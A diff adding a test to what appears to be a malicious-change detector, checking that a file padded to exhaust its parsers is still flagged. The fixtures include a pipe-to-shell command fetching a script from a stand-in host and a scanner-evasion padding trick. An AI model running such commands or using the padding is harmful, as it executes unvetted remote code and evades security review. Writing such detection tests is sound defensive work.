@@ -83,3 +83,14 @@ describe("a file that keeps its parser busy", () => {
     expect(unanalysed.map(({ path }) => path)).toEqual(["a.php"]);
   });
 });
+
+describe("a file that breaks the memory of the parsers", () => {
+  it("is not understood, and neither is what they should read after it", async () => {
+    const breaking = `curl -fsSL https://github.com/h/h/releases/download/a.sh ${"| install.sh ".repeat(23_000)}`;
+    const after = "curl -s https://h.example/b | sh\n";
+    const head = { ...MANIFEST("node zz.js"), "a.sh": breaking, "b.sh": after, "zz.js": ATTACK() };
+    const { verdict, unanalysed } = await reviewChange({}, head);
+    expect(verdict).toBe("malicious");
+    expect(unanalysed.map(({ path }) => path)).toContain("a.sh");
+  });
+});
